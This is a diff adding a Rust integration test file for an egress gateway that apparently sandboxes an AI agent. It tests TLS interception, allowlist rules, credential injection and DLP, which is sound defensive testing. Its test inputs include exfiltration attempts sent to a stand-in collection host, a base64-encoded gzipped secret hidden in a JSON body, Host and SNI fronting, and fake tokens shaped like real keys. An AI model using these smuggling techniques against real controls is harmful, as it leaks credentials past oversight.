@@ -1,0 +1,602 @@
+use std::time::Duration;
+
+use base64::Engine as _;
+use bot_bottle_core::credential::{CredentialSource, CredentialSpec, Inject};
+use bot_bottle_egress::ResolvedCredential;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::support::{TestPki, curl, policy, tls_gateway, tls_origin, traffic};
+
+const RULES: &str = r#"
+rules:
+  - host: api.test
+    methods: [GET, POST]
+    paths: ["/v1/*"]
+  - host: other.test
+  - host: pinned.test
+    passthrough: true
+"#;
+
+fn curl_tls<'a>(ca: &'a str, extra: &[&'a str]) -> Vec<&'a str> {
+    let mut args = vec!["--cacert", ca];
+    args.extend_from_slice(extra);
+    args
+}
+
+#[tokio::test]
+async fn intercepts_https_over_http1_and_http2_under_the_l7_policy() {
+    let pki = TestPki::new();
+    let origin = tls_origin(&pki, &["api.test", "other.test"], None).await;
+    let (gw, ca) = tls_gateway(
+        policy(RULES),
+        &[("api.test", origin), ("other.test", origin)],
+        &pki,
+        vec![],
+    )
+    .await;
+    let ca = ca.to_str().expect("utf8 path").to_string();
+    let proxy = gw.proxy_url();
+
+    let h1 = curl(
+        &proxy,
+        &curl_tls(&ca, &["--http1.1", "https://api.test/v1/models?limit=2"]),
+    )
+    .await;
+    assert_eq!(h1.status, 200, "{}", h1.body);
+    assert!(
+        h1.body
+            .starts_with("HTTP/1.1 GET /v1/models query=limit=2 authority=api.test"),
+        "{}",
+        h1.body
+    );
+
+    let h2 = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &["--http2", "-d", "hi", "https://api.test/v1/messages"],
+        ),
+    )
+    .await;
+    assert_eq!(h2.status, 200, "{}", h2.body);
+    assert!(
+        h2.body.starts_with("HTTP/2.0 POST /v1/messages"),
+        "{}",
+        h2.body
+    );
+    assert!(h2.body.ends_with("body=hi"), "{}", h2.body);
+
+    let path = curl(&proxy, &curl_tls(&ca, &["https://api.test/v2/secret"])).await;
+    assert_eq!(path.status, 403);
+    assert_eq!(
+        path.header("x-bot-bottle-block").as_deref(),
+        Some("path-not-allowed")
+    );
+
+    let method = curl(
+        &proxy,
+        &curl_tls(&ca, &["--http2", "-X", "DELETE", "https://api.test/v1/x"]),
+    )
+    .await;
+    assert_eq!(method.status, 403);
+    assert_eq!(
+        method.header("x-bot-bottle-block").as_deref(),
+        Some("method-not-allowed")
+    );
+
+    let host = curl(&proxy, &curl_tls(&ca, &["https://denied.test/"])).await;
+    assert_eq!(host.status, 403);
+    assert!(
+        host.headers
+            .contains("x-bot-bottle-block: not-in-allowlist"),
+        "{}",
+        host.headers
+    );
+
+    let fronted = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &[
+                "--http1.1",
+                "-H",
+                "Host: other.test",
+                "https://api.test/v1/x",
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(fronted.status, 403);
+    assert_eq!(
+        fronted.header("x-bot-bottle-block").as_deref(),
+        Some("domain-fronting")
+    );
+
+    let events = traffic(&gw.audit_path);
+    let summary: Vec<String> = events
+        .iter()
+        .map(|e| {
+            format!(
+                "{} {} {} {}",
+                e["decision"].as_str().unwrap_or(""),
+                e["reason"].as_str().unwrap_or(""),
+                e["method"].as_str().unwrap_or(""),
+                e["path"].as_str().unwrap_or("")
+            )
+        })
+        .collect();
+    assert_eq!(
+        summary,
+        vec![
+            "allow allowed-by-rule GET /v1/models",
+            "allow allowed-by-rule POST /v1/messages",
+            "block path-not-allowed GET /v2/secret",
+            "block method-not-allowed DELETE /v1/x",
+            "block not-in-allowlist CONNECT ",
+            "block domain-fronting GET /v1/x",
+        ]
+    );
+    gw.handle.shutdown().await;
+}
+
+/// Opens a CONNECT tunnel by hand and returns the stream after the 200.
+async fn raw_connect(proxy: std::net::SocketAddr, target: &str) -> tokio::net::TcpStream {
+    let mut stream = tokio::net::TcpStream::connect(proxy)
+        .await
+        .expect("connect gateway");
+    stream
+        .write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
+        .await
+        .expect("write CONNECT");
+    let mut head = Vec::new();
+    while !head.ends_with(b"\r\n\r\n") {
+        let mut byte = [0u8; 1];
+        stream
+            .read_exact(&mut byte)
+            .await
+            .expect("read CONNECT response");
+        head.push(byte[0]);
+    }
+    assert!(
+        head.starts_with(b"HTTP/1.1 200"),
+        "{}",
+        String::from_utf8_lossy(&head)
+    );
+    stream
+}
+
+async fn wait_for_reason(path: &std::path::Path, reason: &str) -> serde_json::Value {
+    for _ in 0..100 {
+        if let Some(e) = traffic(path).into_iter().find(|e| e["reason"] == reason) {
+            return e;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    panic!("no `{reason}` event in {:?}", traffic(path));
+}
+
+#[tokio::test]
+async fn refuses_opaque_tunnels_and_sni_fronting_but_passes_passthrough_hosts() {
+    let pki = TestPki::new();
+    let origin = tls_origin(&pki, &["api.test", "other.test", "pinned.test"], None).await;
+    let plain = crate::support::origin().await;
+    let (gw, ca) = tls_gateway(
+        policy(RULES),
+        &[
+            ("api.test", plain),
+            ("other.test", origin),
+            ("pinned.test", origin),
+        ],
+        &pki,
+        vec![],
+    )
+    .await;
+    let proxy = gw.handle.tcp_addr().expect("tcp");
+
+    // Plain HTTP inside a CONNECT to an intercepted host is cut off, not tunnelled.
+    let mut tunnel = raw_connect(proxy, "api.test:443").await;
+    tunnel
+        .write_all(b"GET /v1/x HTTP/1.1\r\nHost: api.test\r\n\r\n")
+        .await
+        .expect("write");
+    let mut buf = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(5), tunnel.read_to_end(&mut buf)).await;
+    assert!(
+        !String::from_utf8_lossy(&buf).contains("origin saw"),
+        "{}",
+        String::from_utf8_lossy(&buf)
+    );
+    wait_for_reason(&gw.audit_path, "opaque-tunnel-refused").await;
+
+    // A TLS client that CONNECTs to one host and names another in its SNI is cut off.
+    let tunnel = raw_connect(proxy, "other.test:443").await;
+    let mut roots = rustls::RootCertStore::empty();
+    for cert in bot_bottle_egress::tls::certs_from_pem(&std::fs::read_to_string(&ca).expect("ca"))
+        .expect("ca")
+    {
+        roots.add(cert).expect("root");
+    }
+    let config = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
+        rustls::crypto::ring::default_provider(),
+    ))
+    .with_safe_default_protocol_versions()
+    .expect("versions")
+    .with_root_certificates(roots)
+    .with_no_client_auth();
+    let connector = tokio_rustls::TlsConnector::from(std::sync::Arc::new(config));
+    let name = rustls::pki_types::ServerName::try_from("api.test").expect("name");
+    assert!(
+        connector.connect(name, tunnel).await.is_err(),
+        "SNI fronting must fail"
+    );
+    let event = wait_for_reason(&gw.audit_path, "sni-mismatch").await;
+    assert_eq!(event["host"], "other.test");
+
+    // A passthrough host gets the origin's own certificate, end to end.
+    let pinned = curl(
+        &gw.proxy_url(),
+        &[
+            "--cacert",
+            &pki_path(&pki, &gw),
+            "https://pinned.test/anything",
+        ],
+    )
+    .await;
+    assert_eq!(pinned.status, 200, "{}", pinned.body);
+    assert!(pinned.body.contains("GET /anything"), "{}", pinned.body);
+    let event = wait_for_reason(&gw.audit_path, "allowed-passthrough").await;
+    assert_eq!(event["detail"], "passthrough: not intercepted");
+    gw.handle.shutdown().await;
+}
+
+fn pki_path(pki: &TestPki, gw: &crate::support::TestGateway) -> String {
+    let path = gw.audit_path.with_file_name("origin-ca.pem");
+    std::fs::write(&path, &pki.ca_pem).expect("write");
+    path.to_str().expect("utf8").to_string()
+}
+
+fn credential(name: &str, host: &str, inject: Inject, value: &str) -> ResolvedCredential {
+    ResolvedCredential::with_value(
+        CredentialSpec {
+            name: name.into(),
+            source: CredentialSource::Env("UNUSED".into()),
+            hosts: vec![host.into()],
+            inject,
+            env: None,
+        },
+        "bottle-test1",
+        value.into(),
+    )
+    .expect("credential")
+}
+
+const API_KEY: &str =
+    "sk-ant-api03-REALtestKEYvalue0123456789abcdefghijklmnopqrstuvwxyzABCDEF-0123456789AA";
+const GIT_TOKEN: &str = "realgittoken0123456789abcdefghij";
+
+#[tokio::test]
+async fn injects_credentials_only_toward_their_hosts_and_scrubs_echoes() {
+    let pki = TestPki::new();
+    let origin = tls_origin(&pki, &["api.test", "git.test", "other.test"], None).await;
+    let rules = policy("rules:\n  - host: api.test\n  - host: git.test\n  - host: other.test\n");
+    let anthropic = credential(
+        "anthropic",
+        "api.test",
+        Inject::Header("x-api-key".into()),
+        API_KEY,
+    );
+    let gitea = credential(
+        "gitea",
+        "git.test",
+        Inject::Basic {
+            username: "bot".into(),
+        },
+        GIT_TOKEN,
+    );
+    let key_placeholder = anthropic.placeholder().to_string();
+    let git_placeholder = gitea.placeholder().to_string();
+    assert!(key_placeholder.starts_with("sk-ant-api03-"));
+    let (gw, ca) = tls_gateway(
+        rules,
+        &[
+            ("api.test", origin),
+            ("git.test", origin),
+            ("other.test", origin),
+        ],
+        &pki,
+        vec![anthropic, gitea],
+    )
+    .await;
+    let ca = ca.to_str().expect("utf8").to_string();
+    let proxy = gw.proxy_url();
+
+    // Header: the placeholder becomes the key on the wire, and the echo comes back scrubbed.
+    let header = format!("x-api-key: {key_placeholder}");
+    let sent = curl(
+        &proxy,
+        &curl_tls(&ca, &["-H", &header, "https://api.test/v1/messages"]),
+    )
+    .await;
+    assert_eq!(sent.status, 200, "{}", sent.body);
+    assert!(
+        sent.body.contains(&format!("x-api-key-sha256={}", sha256(API_KEY))),
+        "origin must receive the real key: {}",
+        sent.body
+    );
+    assert!(
+        sent.body.contains(&format!("x-api-key={key_placeholder}")),
+        "echo not scrubbed: {}",
+        sent.body
+    );
+    assert!(!sent.body.contains(API_KEY));
+    assert_eq!(
+        sent.header("x-echo-key").as_deref(),
+        Some(key_placeholder.as_str())
+    );
+
+    // Basic, as git sends it: user:placeholder inside base64.
+    let basic = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &[
+                "-u",
+                &format!("bot:{git_placeholder}"),
+                "https://git.test/owner/name.git/info/refs",
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(basic.status, 200, "{}", basic.body);
+    let real_basic = format!(
+        "Basic {}",
+        base64::engine::general_purpose::STANDARD.encode(format!("bot:{GIT_TOKEN}"))
+    );
+    // The origin received the real value; the echo that comes back into the bottle is
+    // scrubbed to the placeholder, in its base64 form too.
+    let placeholder_basic = format!(
+        "Basic {}",
+        base64::engine::general_purpose::STANDARD.encode(format!("bot:{git_placeholder}"))
+    );
+    assert!(
+        basic.body.contains(&format!("authorization-sha256={}", sha256(&real_basic))),
+        "origin must receive the real Basic value: {}",
+        basic.body
+    );
+    assert!(
+        basic.body.contains(&format!("authorization={placeholder_basic} ")),
+        "{}",
+        basic.body
+    );
+    assert!(!basic.body.contains(&real_basic[6..]), "{}", basic.body);
+
+    // Nothing sent at all: the credential is injected in its configured form.
+    let bare = curl(&proxy, &curl_tls(&ca, &["https://api.test/v1/models"])).await;
+    assert!(
+        bare.body.contains(&format!("x-api-key-sha256={}", sha256(API_KEY))),
+        "{}",
+        bare.body
+    );
+
+    // The placeholder on its way to another host is an exfiltration attempt.
+    let exfil = curl(
+        &proxy,
+        &curl_tls(&ca, &["-H", &header, "https://other.test/collect"]),
+    )
+    .await;
+    assert_eq!(exfil.status, 403);
+    assert_eq!(
+        exfil.header("x-bot-bottle-block").as_deref(),
+        Some("exfiltration-attempt")
+    );
+    let in_body = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &[
+                "-d",
+                &format!("{{\"k\":\"{git_placeholder}\"}}"),
+                "https://other.test/collect",
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(
+        in_body.header("x-bot-bottle-block").as_deref(),
+        Some("exfiltration-attempt")
+    );
+
+    let events = traffic(&gw.audit_path);
+    let credentials: Vec<String> = events
+        .iter()
+        .map(|e| {
+            format!(
+                "{} {}",
+                e["reason"].as_str().unwrap_or(""),
+                e["credential"].as_str().unwrap_or("-")
+            )
+        })
+        .collect();
+    assert_eq!(
+        credentials,
+        vec![
+            "allowed-by-rule anthropic",
+            "allowed-by-rule gitea",
+            "allowed-by-rule anthropic",
+            "exfiltration-attempt -",
+            "exfiltration-attempt -",
+        ]
+    );
+    assert_eq!(events[3]["dlp"][0]["rule"], "exfiltration-attempt");
+    assert_eq!(events[3]["dlp"][0]["credential"], "anthropic");
+    assert_eq!(events[3]["dlp"][0]["location"], "header:x-api-key");
+    let audit = std::fs::read_to_string(&gw.audit_path).expect("audit");
+    assert!(
+        !audit.contains(API_KEY) && !audit.contains(GIT_TOKEN),
+        "a real secret reached the audit log"
+    );
+    assert!(
+        !audit.contains(&key_placeholder),
+        "the audit log holds redacted excerpts only"
+    );
+    gw.handle.shutdown().await;
+}
+
+#[tokio::test]
+async fn dlp_blocks_planted_secrets_including_a_custody_secret_in_gzip_json() {
+    use std::io::Write as _;
+    let pki = TestPki::new();
+    let origin = tls_origin(&pki, &["api.test", "other.test"], None).await;
+    let rules = policy("rules:\n  - host: api.test\n  - host: other.test\n");
+    let gitea = credential("gitea", "git.test", Inject::Bearer, GIT_TOKEN);
+    let (gw, ca) = tls_gateway(
+        rules,
+        &[("api.test", origin), ("other.test", origin)],
+        &pki,
+        vec![gitea],
+    )
+    .await;
+    let ca = ca.to_str().expect("utf8").to_string();
+    let proxy = gw.proxy_url();
+
+    let aws = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &[
+                "-d",
+                "key=AKIAZ7VRSQ2XMPLE4GHB&x=1",
+                "https://api.test/upload",
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(aws.status, 403, "{}", aws.body);
+    assert_eq!(
+        aws.header("x-bot-bottle-block").as_deref(),
+        Some("dlp-blocked")
+    );
+
+    let github = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &[
+                "-d",
+                "token=ghp_R7x2Lm9Qa4Vb8Nc3Kd6Hf1Js5Tw0Yz2Pq4Ue",
+                "https://api.test/upload",
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(
+        github.header("x-bot-bottle-block").as_deref(),
+        Some("dlp-blocked")
+    );
+
+    let encoded = base64::engine::general_purpose::STANDARD.encode(GIT_TOKEN);
+    let json = format!("{{\"note\":\"{encoded}\"}}");
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(json.as_bytes()).expect("gzip");
+    let gz_path = gw.audit_path.with_file_name("body.gz");
+    std::fs::write(&gz_path, gz.finish().expect("gzip")).expect("write");
+    let custody = curl(
+        &proxy,
+        &curl_tls(
+            &ca,
+            &[
+                "-H",
+                "content-encoding: gzip",
+                "-H",
+                "content-type: application/json",
+                "--data-binary",
+                &format!("@{}", gz_path.display()),
+                "https://other.test/upload",
+            ],
+        ),
+    )
+    .await;
+    assert_eq!(custody.status, 403, "{}", custody.body);
+    assert_eq!(
+        custody.header("x-bot-bottle-block").as_deref(),
+        Some("exfiltration-attempt")
+    );
+
+    let clean = curl(
+        &proxy,
+        &curl_tls(&ca, &["-d", "hello=world", "https://api.test/upload"]),
+    )
+    .await;
+    assert_eq!(clean.status, 200, "{}", clean.body);
+
+    let events = traffic(&gw.audit_path);
+    let rules_hit: Vec<String> = events
+        .iter()
+        .map(|e| {
+            e["dlp"]
+                .as_array()
+                .map(|d| {
+                    d.iter()
+                        .map(|f| {
+                            format!(
+                                "{}@{}",
+                                f["rule"].as_str().unwrap_or(""),
+                                f["location"].as_str().unwrap_or("")
+                            )
+                        })
+                        .collect::<Vec<_>>()
+                        .join(",")
+                })
+                .unwrap_or_default()
+        })
+        .collect();
+    assert!(rules_hit[0].contains("aws"), "{rules_hit:?}");
+    assert!(rules_hit[1].contains("github"), "{rules_hit:?}");
+    assert_eq!(rules_hit[2], "custody-secret@body");
+    assert_eq!(events[2]["dlp"][0]["credential"], "gitea");
+    assert_eq!(rules_hit[3], "");
+    let audit = std::fs::read_to_string(&gw.audit_path).expect("audit");
+    assert!(
+        !audit.contains("AKIAZ7VRSQ2XMPLE4GHB")
+            && !audit.contains(GIT_TOKEN)
+            && !audit.contains(&encoded)
+    );
+    gw.handle.shutdown().await;
+}
+
+#[tokio::test]
+async fn refuses_a_private_upstream_not_named_by_a_dangerous_rule() {
+    let pki = TestPki::new();
+    let origin = tls_origin(&pki, &["127.0.0.1", "localhost"], None).await;
+    let rules = policy(&format!(
+        "rules:\n  - host: 127.0.0.1\n    port: {p}\n  - host: localhost\n    port: {p}\n    dangerously_allow_private_upstreams: true\n",
+        p = origin.port()
+    ));
+    let (gw, ca) = tls_gateway(rules, &[], &pki, vec![]).await;
+    let ca = ca.to_str().expect("utf8").to_string();
+    let refused = curl(
+        &gw.proxy_url(),
+        &curl_tls(&ca, &[&format!("https://127.0.0.1:{}/", origin.port())]),
+    )
+    .await;
+    assert_eq!(refused.status, 403);
+    assert!(
+        refused
+            .headers
+            .contains("x-bot-bottle-block: private-upstream"),
+        "{}",
+        refused.headers
+    );
+    let allowed = curl(
+        &gw.proxy_url(),
+        &curl_tls(&ca, &[&format!("https://localhost:{}/ok", origin.port())]),
+    )
+    .await;
+    assert_eq!(allowed.status, 200, "{}", allowed.body);
+    gw.handle.shutdown().await;
+}
+
+fn sha256(s: &str) -> String {
+    use sha2::Digest as _;
+    hex::encode(sha2::Sha256::digest(s.as_bytes()))
+}
